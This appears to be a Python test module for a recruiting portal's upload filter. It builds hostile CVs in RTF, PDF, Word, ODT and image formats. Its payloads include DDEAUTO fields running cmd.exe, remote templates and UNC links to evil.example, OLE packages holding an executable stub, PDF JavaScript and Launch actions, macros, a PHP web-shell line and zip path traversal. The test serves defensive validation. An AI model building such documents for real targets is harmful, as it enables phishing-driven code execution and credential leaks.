"""Hostile files made with published techniques, and the legitimate files they look like.

Every attack is tried twice: on `check_upload` (the exact refusal code) and through the HTTP
API as a recruiter would upload it (the same code, and not one request reaches Kombo). The
look-alikes come from third-party writers (python-docx, odfpy, reportlab, Pillow, pikepdf)
and must be accepted. The files are built here, in code: no binary blobs.
"""

from __future__ import annotations

import io
import struct
import zipfile
from collections.abc import Callable
from pathlib import Path

import pikepdf
import pytest
import samples
from conftest import find_application, record

from portal.filetype import Accepted, FileRefused, check_upload

PDF = "application/pdf"
DOCX = "application/vnd.openxmlformats-officedocument.wordprocessingml.document"
DOC = "application/msword"
ODT = "application/vnd.oasis.opendocument.text"
RTF = "application/rtf"
TXT = "text/plain"
JPEG = "image/jpeg"
PNG = "image/png"

REL = samples.REL
EXE = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00" + b"\x00" * 44 + b"PE\x00\x00"


# --------------------------------------------------------------------------- RTF


def _ole1(class_name: str, native: bytes) -> bytes:
    """An OLE 1.0 embedded object (MS-OLEDS 2.2), as RTF's \\objdata carries it."""

    def lp(text: str) -> bytes:
        raw = text.encode() + b"\x00" if text else b""
        return struct.pack("<I", len(raw)) + raw

    return (
        struct.pack("<II", 0x0501, 2)
        + lp(class_name)
        + lp("")
        + lp("")
        + struct.pack("<I", len(native))
        + native
    )


def _rtf(body: str) -> bytes:
    return ("{\\rtf1\\ansi\\deff0{\\fonttbl{\\f0 Arial;}}\n" + body + "\n\\par}\n").encode()


PACKAGE_EXE = _ole1("Package", samples.ole_package("invoice.exe", EXE)[4:])
EQUATION = _ole1("Equation.3", samples.ole2({"Equation Native": b"\x1c\x00\x00\x00\x02" * 40}))

RTF_ATTACKS = {
    "rtf-object-package-exe": (
        _rtf("{\\object\\objemb{\\*\\objclass Package}{\\*\\objdata " + PACKAGE_EXE.hex() + "}}"),
        "file_embedded_files",
    ),
    "rtf-object-objupdate": (
        _rtf(
            "{\\object\\objautlink\\objupdate\\rsltpict{\\*\\objclass Word.Document.8}"
            "{\\*\\objdata " + PACKAGE_EXE.hex() + "}}"
        ),
        "file_embedded_files",
    ),
    "rtf-equation-editor": (
        _rtf("{\\object\\objemb{\\*\\objclass Equation.3}{\\*\\objdata " + EQUATION.hex() + "}}"),
        "file_embedded_files",
    ),
    # Obfuscation rtfobj knows: whitespace, an unknown destination and \bin-free noise in the
    # hex, and no \objclass at all.
    "rtf-object-obfuscated-hex": (
        _rtf(
            "{\\object\\objemb{\\*\\objdata \n"
            + " ".join(PACKAGE_EXE.hex()[i : i + 7] for i in range(0, len(PACKAGE_EXE.hex()), 7))
            + "{\\*\\panose 0000}}}"
        ),
        "file_embedded_files",
    ),
    "rtf-remote-template": (
        _rtf("{\\*\\template http://evil.example/t.dotm}Jane Doe"),
        "file_remote_content",
    ),
    "rtf-ddeauto-field": (
        _rtf(
            '{\\field{\\*\\fldinst DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe"}'
            "{\\fldrslt Jane}}"
        ),
        "file_remote_content",
    ),
    "rtf-includepicture-unc": (
        _rtf(
            '{\\field{\\*\\fldinst INCLUDEPICTURE "\\\\\\\\evil.example\\\\share\\\\x.png" \\\\d}'
            "{\\fldrslt }}"
        ),
        "file_remote_content",
    ),
}


# --------------------------------------------------------------------------- PDF

CATALOG = b"<< /Type /Catalog /Pages 2 0 R /OpenAction 3 0 R >>"
PAGES = b"<< /Type /Pages /Kids [] /Count 0 >>"
JS = b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>"


def _js_in_object_stream(filter_: str) -> bytes:
    return samples.pdf15({1: CATALOG, 2: PAGES, 3: JS}, {2, 3}, filter_)


def _type_as_reference() -> bytes:
    """The object stream's /Type is `9 0 R` (a name object elsewhere), not a literal name."""
    data = samples.pdf15({1: CATALOG, 2: PAGES, 3: JS, 9: b"/ObjStm"}, {2, 3}, "flate")
    assert data.count(b"<< /Type /ObjStm") == 1
    return data.replace(b"<< /Type /ObjStm", b"<< /Type 9 0 R  ")  # same length: offsets hold


def _classic(*objects: bytes) -> bytes:
    """A PDF with a classic xref table; object 1 is the catalog, 2 the page tree."""
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % o for o in offsets)
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (
        len(objects) + 1,
        xref,
    )
    return bytes(out)


ONE_PAGE = b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>"


def _page(extra: bytes) -> bytes:
    return b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] " + extra + b" >>"


def _open_action(action: bytes) -> bytes:
    return _classic(b"<< /Type /Catalog /Pages 2 0 R /OpenAction 3 0 R >>", PAGES, action)


def _link(action: bytes) -> bytes:
    annot = b"<< /Type /Annot /Subtype /Link /Rect [72 700 300 712] /A " + action + b" >>"
    return _classic(
        b"<< /Type /Catalog /Pages 2 0 R >>", ONE_PAGE, _page(b"/Annots [4 0 R]"), annot
    )


def _with_pikepdf(change: Callable[[pikepdf.Pdf], None]) -> bytes:
    pdf = pikepdf.open(io.BytesIO(samples.reportlab_cv()))
    change(pdf)
    out = io.BytesIO()
    pdf.save(out, object_stream_mode=pikepdf.ObjectStreamMode.generate)
    return out.getvalue()


def _attach(pdf: pikepdf.Pdf) -> None:
    pdf.attachments["invoice.exe"] = pikepdf.AttachedFileSpec(pdf, EXE, mime_type="x/x")


def _xfa(pdf: pikepdf.Pdf) -> None:
    xfa = pdf.make_stream(
        b'<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template><subform>'
        b'<event activity="initialize"><script contentType="application/x-javascript">'
        b"app.alert(1)</script></event></subform></template></xdp:xdp>"
    )
    pdf.Root.AcroForm = pikepdf.Dictionary(Fields=pikepdf.Array(), XFA=xfa)


def _annotation(subtype: str, **entries: object) -> Callable[[pikepdf.Pdf], None]:
    def change(pdf: pikepdf.Pdf) -> None:
        annot = pdf.make_indirect(
            pikepdf.Dictionary(
                Type=pikepdf.Name.Annot,
                Subtype=pikepdf.Name("/" + subtype),
                Rect=pikepdf.Array([72, 72, 200, 200]),
                **entries,
            )
        )
        pdf.pages[0].obj.Annots = pikepdf.Array([annot])

    return change


def _file_attachment_annotation(pdf: pikepdf.Pdf) -> None:
    spec = pikepdf.AttachedFileSpec(pdf, EXE, mime_type="x/x").obj
    _annotation("FileAttachment", FS=spec, Contents=pikepdf.String("cv"))(pdf)


PDF_ATTACKS = {
    "pdf-js-objstm-asciihex": (_js_in_object_stream("hex"), "file_active_content"),
    "pdf-js-objstm-ascii85-flate": (_js_in_object_stream("a85flate"), "file_active_content"),
    "pdf-js-objstm-png-predictor": (_js_in_object_stream("png"), "file_active_content"),
    "pdf-objstm-type-indirect": (_type_as_reference(), "file_active_content"),
    "pdf-js-after-stream-string": (
        _open_action(b"<< /S /Rendition /OP 0 /T (stream\n) /JS (app.alert\\(1\\)) >>"),
        "file_active_content",
    ),
    "pdf-js-escaped-name-in-objstm": (
        samples.pdf15(
            {1: CATALOG, 2: PAGES, 3: b"<< /S /J#61vaScript /J#53 (app.alert\\(1\\)) >>"},
            {3},
            "png",
        ),
        "file_active_content",
    ),
    "pdf-xfa": (_with_pikepdf(_xfa), "file_active_content"),
    "pdf-gotor-on-open": (
        _open_action(b"<< /S /GoToR /F (\\\\\\\\evil.example\\\\s\\\\x.pdf) /D [0 /Fit] >>"),
        "file_active_content",
    ),
    "pdf-gotoe-on-open": (
        _open_action(b"<< /S /GoToE /T << /R /C /N (x.pdf) >> /D [0 /Fit] >>"),
        "file_active_content",
    ),
    "pdf-launch-link": (_link(b"<< /S /Launch /Win << /F (cmd.exe) >> >>"), "file_active_content"),
    "pdf-importdata": (_open_action(b"<< /S /ImportData /F (data.fdf) >>"), "file_active_content"),
    "pdf-submitform": (
        _link(b"<< /S /SubmitForm /F << /FS /URL /F (https://evil.example/c) >> >>"),
        "file_active_content",
    ),
    "pdf-uri-file-link": (
        _link(b"<< /S /URI /URI (file:///C:/Windows/System32/cmd.exe) >>"),
        "file_remote_content",
    ),
    "pdf-uri-unc-link": (
        _link(b"<< /S /URI /URI (\\\\\\\\evil.example\\\\share\\\\cv.pdf) >>"),
        "file_remote_content",
    ),
    "pdf-uri-on-open": (
        _open_action(b"<< /S /URI /URI (https://evil.example/track) >>"),
        "file_active_content",
    ),
    "pdf-uri-on-page-open": (
        _classic(
            b"<< /Type /Catalog /Pages 2 0 R >>",
            ONE_PAGE,
            _page(b"/AA << /O << /S /URI /URI (https://evil.example/t) >> >>"),
        ),
        "file_active_content",
    ),
    "pdf-embedded-file": (_with_pikepdf(_attach), "file_embedded_files"),
    "pdf-file-attachment-annotation": (
        _with_pikepdf(_file_attachment_annotation),
        "file_embedded_files",
    ),
    "pdf-richmedia": (_with_pikepdf(_annotation("RichMedia")), "file_active_content"),
    "pdf-3d": (_with_pikepdf(_annotation("3D")), "file_active_content"),
}


# --------------------------------------------------------------------------- Word


def _field(*instr: str) -> str:
    """A complex field whose instruction is split over several runs (as Word saves edits)."""
    runs = "".join(
        f'<w:r><w:instrText xml:space="preserve">{part}</w:instrText></w:r>' for part in instr
    )
    return (
        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
        + runs
        + '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>Jane</w:t></w:r>'
        + '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
    )


DDE_CMD = 'c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe"'


def _template_rel(type_: str = "attachedTemplate", mode: str = "External") -> str:
    return (
        f'<Relationship Id="rId1" Type="{REL}{type_}" '
        f'Target="http://evil.example/t.dotm" TargetMode="{mode}"/>'
    )


def _utf16_rels() -> bytes:
    text = (
        '<?xml version="1.0" encoding="UTF-16"?>'
        f'<Relationships xmlns="{samples.PKG_RELS}">{_template_rel()}</Relationships>'
    )
    return text.encode("utf-16")


def _word_with_rels_part(name: str, data: bytes) -> bytes:
    return samples.word(extra={name: data})


def _package_object(filename: str, payload: bytes) -> bytes:
    """word/embeddings/oleObject1.bin: an OLE Package object carrying a file."""
    return samples.ole2(
        {"\x01Ole10Native": samples.ole_package(filename, payload)},
        root_clsid=bytes.fromhex("0c00030000000000c000000000000046"),
    )


def _embedding(name: str, data: bytes, rel_type: str = "oleObject") -> bytes:
    return samples.word(
        body='<w:p><w:r><w:object><o:OLEObject xmlns:o="urn:schemas-microsoft-com:office:office" '
        'r:id="rId9" ProgID="Package"/></w:object></w:r></w:p>',
        rels=f'<Relationship Id="rId9" Type="{REL}{rel_type}" Target="embeddings/{name}"/>',
        extra={f"word/embeddings/{name}": data},
    )


def _alt_chunk(rtf: bytes) -> bytes:
    return samples.word(
        body='<w:altChunk r:id="rId9"/><w:p><w:r><w:t>Jane</w:t></w:r></w:p>',
        rels=f'<Relationship Id="rId9" Type="{REL}aFChunk" Target="afchunk.rtf"/>',
        overrides='<Override PartName="/word/afchunk.rtf" ContentType="application/rtf"/>',
        extra={"word/afchunk.rtf": rtf},
    )


def _entry_named(name: str) -> bytes:
    return samples.word(extra={name: b"<x/>"})


WORD_ATTACKS = {
    "docx-ddeauto-split-across-runs": (
        samples.word(_field(" DD", "EAU", f"TO {DDE_CMD} ")),
        "file_remote_content",
    ),
    "docx-dde-character-reference": (
        samples.word(_field(f" &#68;&#x44;EAUTO {DDE_CMD} ")),
        "file_remote_content",
    ),
    "docx-dde-in-cdata": (
        samples.word(
            '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>'
            f"<![CDATA[ DDEAUTO {DDE_CMD} ]]></w:instrText></w:r>"
            '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
        ),
        "file_remote_content",
    ),
    "docx-dde-fldsimple-in-header": (
        samples.word(
            extra={
                "word/header1.xml": (
                    f'<w:hdr xmlns:w="{samples.W_NS}"><w:p><w:fldSimple w:instr=" &#68;DE '
                    f'cmd /c calc "><w:r><w:t>x</w:t></w:r></w:fldSimple></w:p></w:hdr>'
                ).encode()
            }
        ),
        "file_remote_content",
    ),
    "docx-includepicture-unc-field": (
        samples.word(_field(' INCLUDEPICTURE "\\\\\\\\evil.example\\\\s\\\\x.png" \\\\d ')),
        "file_remote_content",
    ),
    "docx-template-targetmode-charref": (
        samples.word(settings_rels=_template_rel(mode="&#69;xternal")),
        "file_remote_content",
    ),
    "docx-template-escaped-type": (
        samples.word(settings_rels=_template_rel(type_="attachedTempl&#97;te")),
        "file_remote_content",
    ),
    "docx-template-utf16-rels": (
        _word_with_rels_part("word/_rels/settings.xml.rels", _utf16_rels()),
        "file_remote_content",
    ),
    "docx-linked-picture-file-url": (
        samples.word(
            rels=f'<Relationship Id="rId5" Type="{REL}image" '
            'Target="file:///\\\\evil.example\\share\\logo.png" TargetMode="External"/>'
        ),
        "file_remote_content",
    ),
    "docx-ole-package-with-exe": (
        _embedding("oleObject1.bin", _package_object("invoice.exe", EXE)),
        "file_executable",
    ),
    "docx-ole-package-with-script": (
        _embedding("oleObject1.bin", _package_object("readme.js", b"WScript.Shell.Run('calc')")),
        "file_executable",
    ),
    "docx-embeds-xlsm": (
        _embedding("Microsoft_Excel_Macro-Enabled_Worksheet.xlsm", samples.xlsx(macros=True)),
        "file_macros",
    ),
    "docx-altchunk-rtf-with-object": (
        _alt_chunk(RTF_ATTACKS["rtf-object-package-exe"][0]),
        "file_embedded_files",
    ),
    "doc-objectpool-package-exe": (
        samples.word97(
            {"ObjectPool/_1234567890/\x01Ole10Native": samples.ole_package("invoice.exe", EXE)}
        ),
        "file_executable",
    ),
    "docx-zip-entry-dotdot": (_entry_named("../../evil.xml"), "file_damaged"),
    "docx-zip-entry-absolute": (_entry_named("/etc/evil.xml"), "file_damaged"),
    "docx-zip-entry-backslash": (_entry_named("word\\..\\..\\evil.xml"), "file_damaged"),
}


# --------------------------------------------------------------------------- ODF and images


def _odt_with(name: str, data: bytes) -> bytes:
    src = zipfile.ZipFile(io.BytesIO(samples.odfpy_odt()))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as z:
        for info in src.infolist():
            z.writestr(info, src.read(info))
        z.writestr(name, data)
    return out.getvalue()


def _truncated_png() -> bytes:
    data = samples.pillow_png(200, 200)
    return data[: len(data) // 2]


def _truncated_jpeg() -> bytes:
    data = samples.photo_jpeg(400, 300, exif=False)
    return data[: len(data) * 2 // 3]


OTHER_ATTACKS = {
    "odt-basic-macros": (
        _odt_with(
            "Basic/Standard/Module1.xml", b'<script:module script:name="Module1">Sub Main</>'
        ),
        "file_macros",
    ),
    "odt-scripts-python": (
        _odt_with("Scripts/python/evil.py", b"import os\nos.system('calc')\n"),
        "file_macros",
    ),
    "png-truncated": (_truncated_png(), "file_damaged"),
    "jpeg-truncated": (_truncated_jpeg(), "file_damaged"),
    "jpeg-with-php-appended": (
        samples.photo_jpeg() + b"<?php system($_GET['c']); ?>\n",
        "file_damaged",
    ),
    "png-with-data-after-iend": (
        samples.pillow_png() + b"<script>alert(1)</script>",
        "file_damaged",
    ),
}

ATTACKS = {**RTF_ATTACKS, **PDF_ATTACKS, **WORD_ATTACKS, **OTHER_ATTACKS}
NAMES = {"rtf": "cv.rtf", "pdf": "cv.pdf", "docx": "cv.docx", "doc": "cv.doc", "odt": "cv.odt"}
NAMES.update({"png": "photo.png", "jpeg": "photo.jpg"})


# --------------------------------------------------------------------------- more of the same families


def _nested_quote_dde() -> bytes:
    """{ {QUOTE "DDEAUTO"} c:\\...cmd.exe }: the outer instruction is the inner field's result."""
    begin = '<w:r><w:fldChar w:fldCharType="begin"/></w:r>'
    sep = '<w:r><w:fldChar w:fldCharType="separate"/></w:r>'
    end = '<w:r><w:fldChar w:fldCharType="end"/></w:r>'
    instr = '<w:r><w:instrText xml:space="preserve">{}</w:instrText></w:r>'
    return samples.word(
        "<w:p>"
        + begin
        + instr.format(" ")
        + begin
        + instr.format(' QUOTE "DDEAUTO" ')
        + sep
        + "<w:r><w:t>DDEAUTO</w:t></w:r>"
        + end
        + instr.format(f" {DDE_CMD} ")
        + sep
        + "<w:r><w:t>x</w:t></w:r>"
        + end
        + "</w:p>"
    )


def _duplicate_entry() -> bytes:
    """Two word/_rels/settings.xml.rels: readers differ on which one counts."""
    import warnings

    data = samples.word(settings_rels=_template_rel())
    src = zipfile.ZipFile(io.BytesIO(data))
    out = io.BytesIO()
    with warnings.catch_warnings():
        warnings.simplefilter("ignore", UserWarning)  # zipfile: "Duplicate name"
        with zipfile.ZipFile(out, "w") as z:
            for info in src.infolist():
                z.writestr(info, src.read(info))
            z.writestr(
                "word/_rels/settings.xml.rels",
                f'<Relationships xmlns="{samples.PKG_RELS}"/>',
            )
    return out.getvalue()


def _odt_content(xml: str) -> bytes:
    """The odfpy CV with `xml` added to its text body."""
    src = zipfile.ZipFile(io.BytesIO(samples.odfpy_odt()))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as z:
        for info in src.infolist():
            body = src.read(info)
            if info.filename == "content.xml":
                body = body.replace(b"</office:text>", xml.encode() + b"</office:text>")
            z.writestr(info, body)
    return out.getvalue()


ODF_NS = (
    'xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
    'xmlns:script="urn:oasis:names:tc:opendocument:xmlns:script:1.0" '
    'xmlns:xlink="http://www.w3.org/1999/xlink" '
    'xmlns:draw="urn:oasis:names:tc:opendocument:xmlns:drawing:1.0" '
    'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0"'
)
EQUATION_CLSID = bytes.fromhex("02ce020000000000c000000000000046")

MORE_ATTACKS = {
    "docx-dde-via-nested-quote-field": (_nested_quote_dde(), "file_remote_content"),
    "docx-duplicate-part-names": (_duplicate_entry(), "file_damaged"),
    "docx-ole-equation-editor": (
        _embedding(
            "oleObject1.bin",
            samples.ole2({"Equation Native": b"\x1c\x00" * 64}, root_clsid=EQUATION_CLSID),
        ),
        "file_active_content",
    ),
    "docx-ole-package-exe-trailing-dot": (
        _embedding("oleObject1.bin", _package_object("invoice.exe. ", b"just text")),
        "file_executable",
    ),
    "doc-dde-field": (
        samples.word97(text=f"Jane \x13 DDEAUTO {DDE_CMD} \x14x\x15 Doe".encode()),
        "file_remote_content",
    ),
    "doc-dde-field-utf16": (
        samples.word97(text=f"Jane \x13 DDEAUTO {DDE_CMD} \x14x\x15 Doe".encode("utf-16-le")),
        "file_remote_content",
    ),
    "odt-event-listener-python-script": (
        _odt_content(
            f"<text:p {ODF_NS}><office:event-listeners><script:event-listener "
            'script:language="ooo:script" script:event-name="dom:mouseover" '
            'xlink:href="vnd.sun.star.script:../../../program/python-core/lib/pydoc.py'
            '$tempfilepager(1, calc.exe )?language=Python&amp;location=share" '
            'xlink:type="simple"/></office:event-listeners>Jane</text:p>'
        ),
        "file_active_content",
    ),
    "odt-linked-image-unc": (
        _odt_content(
            f"<text:p {ODF_NS}><draw:frame><draw:image "
            'xlink:href="file://evil.example/share/logo.png" xlink:type="simple"/>'
            "</draw:frame></text:p>"
        ),
        "file_remote_content",
    ),
    "odt-dde-connection": (
        _odt_content(
            f'<text:dde-connection-decls {ODF_NS}><text:dde-connection-decl office:name="x" '
            'office:dde-application="cmd" office:dde-topic="/c calc" office:dde-item="x"/>'
            "</text:dde-connection-decls>"
        ),
        "file_remote_content",
    ),
    "rtf-template-unicode-escaped": (
        _rtf("{\\*\\template \\u92?\\u92?evil.example\\\\share\\\\t.dotm}Jane"),
        "file_remote_content",
    ),
    "pdf-uri-javascript-scheme": (
        _link(b"<< /S /URI /URI (javascript:app.alert\\(1\\)) >>"),
        "file_active_content",
    ),
}
MORE_ATTACKS.update(
    {
        "docx-ole-object-package-stream-xlsm": (
            _embedding(
                "oleObject1.bin",
                samples.ole2({"Package": samples.xlsx(macros=True), "\x01CompObj": b"\x01"}),
            ),
            "file_macros",
        ),
        "docx-ole-object-contents-pdf-with-js": (
            _embedding(
                "oleObject1.bin",
                # Over 4 KiB, so ole2() need not pad it (a PDF must end at its %%EOF).
                samples.ole2(
                    {
                        "CONTENTS": samples.pdf15(
                            {1: CATALOG, 2: PAGES, 3: JS, 4: b"(" + b"x" * 5000 + b")"}, {3}
                        ),
                        "\x01Ole": b"\x01",
                    }
                ),
            ),
            "file_active_content",
        ),
        "docx-dde-split-by-xml-comment": (
            samples.word(_field(f" DD<!-- note -->EAU<?x y?>TO {DDE_CMD} ")),
            "file_remote_content",
        ),
        "odt-inline-basic-script": (
            _odt_content(
                f'<office:scripts {ODF_NS}><office:script script:language="ooo:Basic">'
                "Sub Main : Shell(&quot;calc&quot;) : End Sub</office:script></office:scripts>"
            ),
            "file_macros",
        ),
        "pdf-screen-annotation": (_with_pikepdf(_annotation("Screen")), "file_active_content"),
        "pdf-broken-xref-needs-repair": (
            samples.reportlab_cv().replace(b"startxref\n", b"startxref\n9"),
            "file_damaged",
        ),
    }
)
ATTACKS.update(MORE_ATTACKS)


# --------------------------------------------------------------------------- red team, round 2

_OLE_BODY = (
    '<w:p><w:r><w:object><o:OLEObject xmlns:o="urn:schemas-microsoft-com:office:office" '
    'r:id="rId9" ProgID="Package"/></w:object></w:r></w:p>'
)
PACKAGE_OBJECT_EXE = _package_object("invoice.exe", EXE)


def _object_at(target: str, part: str, data: bytes, rel_type: str = "oleObject") -> bytes:
    """An OLE object whose relationship points at a part outside word/embeddings/."""
    return samples.word(
        body=_OLE_BODY,
        rels=f'<Relationship Id="rId9" Type="{REL}{rel_type}" Target="{target}"/>',
        extra={part: data},
    )


def _activex_binary(data: bytes) -> bytes:
    """An ActiveX control whose persisted binary (activeXControlBinary) is `data`."""
    ax = "http://schemas.microsoft.com/office/2006"
    return samples.word(
        body='<w:p><w:r><w:object><w:control r:id="rId9" w:name="Flash1"/></w:object></w:r></w:p>',
        rels=f'<Relationship Id="rId9" Type="{REL}control" Target="activeX/activeX1.xml"/>',
        extra={
            "word/activeX/activeX1.xml": f'<ax:ocx xmlns:ax="{ax}/activeX" '
            f'xmlns:r="{REL[:-1]}" ax:classid="{{D27CDB6E-AE6D-11CF-96B8-444553540000}}" '
            'ax:persistence="persistStorage" r:id="rId1"/>',
            "word/activeX/_rels/activeX1.xml.rels": f'<Relationships xmlns="{samples.PKG_RELS}">'
            f'<Relationship Id="rId1" Type="{ax}/relationships/activeXControlBinary" '
            'Target="activeX1.bin"/></Relationships>',
            "word/activeX/activeX1.bin": data,
        },
    )


def _fc(kind: str) -> str:
    return f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>'


def _it(text: str) -> str:
    return f'<w:r><w:instrText xml:space="preserve">{text}</w:instrText></w:r>'


def _quote_codes_dde(cached: str | None) -> bytes:
    """{ {QUOTE 68 68 69 65 85 84 79} cmd.exe }: the name is built from character codes,
    and the cached result of the inner field lies (or is missing)."""
    inner = _fc("begin") + _it("QUOTE 68 68 69 65 85 84 79")
    if cached is not None:
        inner += _fc("separate") + f"<w:r><w:t>{cached}</w:t></w:r>"
    inner += _fc("end")
    return samples.word(
        "<w:p>" + _fc("begin") + _it(" ") + inner + _it(f" {DDE_CMD} ") + _fc("end") + "</w:p>"
    )


def _odt_embedded_object(xml: str) -> bytes:
    """The odfpy CV with an embedded object ('Object 1/content.xml') holding `xml`."""
    src = zipfile.ZipFile(io.BytesIO(samples.odfpy_odt()))
    out = io.BytesIO()
    sub = (
        f'<?xml version="1.0"?><office:document-content {ODF_NS}><office:body><office:text>'
        f"{xml}</office:text></office:body></office:document-content>"
    )
    frame = (
        f'<text:p><draw:frame {ODF_NS}><draw:object xlink:href="./Object 1" xlink:show="embed" '
        'xlink:actuate="onLoad"/></draw:frame></text:p>'
    )
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as z:
        for info in src.infolist():
            body = src.read(info)
            if info.filename == "content.xml":
                body = body.replace(b"</office:text>", frame.encode() + b"</office:text>", 1)
            z.writestr(info, body)
        z.writestr("Object 1/content.xml", sub)
    return out.getvalue()


def _pdf_link(uri: pikepdf.String, base: str | None = None) -> bytes:
    def change(pdf: pikepdf.Pdf) -> None:
        if base is not None:
            pdf.Root.URI = pikepdf.Dictionary(Base=pikepdf.String(base))
        action = pikepdf.Dictionary(S=pikepdf.Name.URI, URI=uri)
        link = pikepdf.Dictionary(
            Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link, Rect=[0, 0, 600, 800], A=action
        )
        pdf.pages[0].Annots = pdf.make_indirect(pikepdf.Array([link]))

    return _with_pikepdf(change)


def _utf16(text: str) -> pikepdf.String:
    return pikepdf.String(b"\xfe\xff" + text.encode("utf-16-be"))


_HTML_CHUNK = (
    b'<html><body><img src="\\\\evil.example\\s\\x.png"><script>alert(1)</script></body></html>'
)


def _alt_chunk_part(name: str, content_type: str, data: bytes) -> bytes:
    return samples.word(
        body='<w:altChunk r:id="rId9"/><w:p><w:r><w:t>Jane</w:t></w:r></w:p>',
        rels=f'<Relationship Id="rId9" Type="{REL}aFChunk" Target="{name}"/>',
        overrides=f'<Override PartName="/word/{name}" ContentType="{content_type}"/>',
        extra={f"word/{name}": data},
    )


_ODF_FRAME = f"<text:p {ODF_NS}><draw:frame>{{}}</draw:frame></text:p>"
ROUND_TWO = {
    # F1: objects are found by their relationships, wherever the part lives
    "docx-ole-package-exe-in-media": (
        _object_at("media/image9.bin", "word/media/image9.bin", PACKAGE_OBJECT_EXE),
        "file_executable",
    ),
    "docx-ole-package-exe-in-customxml": (
        _object_at("/customXml/item5.bin", "customXml/item5.bin", PACKAGE_OBJECT_EXE),
        "file_executable",
    ),
    "docx-activex-binary-is-ole-package": (_activex_binary(PACKAGE_OBJECT_EXE), "file_executable"),
    "docx-package-xlsm-in-media": (
        _object_at("media/book.xlsm", "word/media/book.xlsm", samples.xlsx(macros=True), "package"),
        "file_macros",
    ),
    "docx-ole-package-exe-no-relationship": (
        samples.word(extra={"word/media/image3.png": PACKAGE_OBJECT_EXE}),
        "file_executable",
    ),
    # F2: a nested field's cached result is not what Word computes
    "docx-dde-nested-quote-char-codes-fake-result": (
        _quote_codes_dde("xyz"),
        "file_remote_content",
    ),
    "docx-dde-nested-quote-char-codes-no-result": (_quote_codes_dde(None), "file_remote_content"),
    "rtf-dde-nested-quote-char-codes": (
        _rtf(
            "{\\field{\\*\\fldinst { }{\\field{\\*\\fldinst QUOTE 68 68 69 65 85 84 79}"
            f"{{\\fldrslt xyz}}}}{{ {DDE_CMD} }}}}{{\\fldrslt hi}}}}"
        ),
        "file_remote_content",
    ),
    # F3: fields that load external content
    "docx-field-link-unc": (
        samples.word(
            _field('LINK Word.Document.12 "\\\\\\\\evil.example\\\\share\\\\x.docx" "" \\a \\f 0')
        ),
        "file_remote_content",
    ),
    "docx-field-database-unc": (
        samples.word(
            _field('DATABASE \\d "\\\\\\\\evil.example\\\\db\\\\x.mdb" \\s "SELECT 1" \\h')
        ),
        "file_remote_content",
    ),
    "rtf-field-link-unc": (
        _rtf(
            '{\\field{\\*\\fldinst LINK Word.Document.8 "\\\\\\\\evil.example\\\\s\\\\x.doc" "" \\\\a}{\\fldrslt x}}'
        ),
        "file_remote_content",
    ),
    # F4: RTF control words read as Word reads them
    "rtf-ddeauto-in-upr-ud": (
        _rtf(
            "{\\field{\\*\\fldinst {\\upr{x}{\\*\\ud{DDEAUTO}}}" + f" {DDE_CMD}" + "}{\\fldrslt x}}"
        ),
        "file_remote_content",
    ),
    "rtf-fldinst-with-parameter": (
        _rtf("{\\field{\\*\\fldinst1 DDEAUTO " + DDE_CMD + "}{\\fldrslt x}}"),
        "file_remote_content",
    ),
    "rtf-datastore-ole-package": (
        _rtf("{\\*\\datastore " + PACKAGE_EXE.hex() + "}"),
        "file_embedded_files",
    ),
    # F5: every content.xml/styles.xml of an ODF package, and all loaded frames
    "odt-unc-image-in-embedded-object": (
        _odt_embedded_object(
            '<draw:frame><draw:image xlink:href="\\\\evil.example\\s\\x.png"/></draw:frame>'
        ),
        "file_remote_content",
    ),
    "odt-floating-frame-file": (
        _odt_content(
            _ODF_FRAME.format(
                '<draw:floating-frame xlink:href="file://evil.example/share/x.html"/>'
            )
        ),
        "file_remote_content",
    ),
    "odt-applet-remote-archive": (
        _odt_content(
            _ODF_FRAME.format(
                '<draw:applet xlink:href="http://evil.example/" draw:code="Evil.class" '
                'draw:archive="http://evil.example/e.jar"/>'
            )
        ),
        "file_active_content",
    ),
    # F6: PDF link targets as a reader resolves and decodes them
    "pdf-uri-base-file-relative-link": (
        _pdf_link(pikepdf.String("payload.exe"), base="file://evil.example/share/"),
        "file_remote_content",
    ),
    "pdf-uri-utf16-file": (
        _pdf_link(_utf16("file://evil.example/share/x.exe")),
        "file_remote_content",
    ),
    "pdf-uri-utf16-javascript": (
        _pdf_link(_utf16("javascript:app.alert(1)")),
        "file_active_content",
    ),
    "pdf-uri-leading-nul-file": (
        _pdf_link(pikepdf.String(b"\x00file://evil.example/x")),
        "file_remote_content",
    ),
    # F7: an HTML or MHT altChunk is a web page inside the document
    "docx-altchunk-html": (
        _alt_chunk_part("afchunk.htm", "text/html", _HTML_CHUNK),
        "file_active_content",
    ),
    "docx-altchunk-mht": (
        _alt_chunk_part(
            "afchunk.mht",
            "message/rfc822",
            b"MIME-Version: 1.0\r\nContent-Type: text/html\r\n\r\n" + _HTML_CHUNK,
        ),
        "file_active_content",
    ),
}
ATTACKS.update(ROUND_TWO)


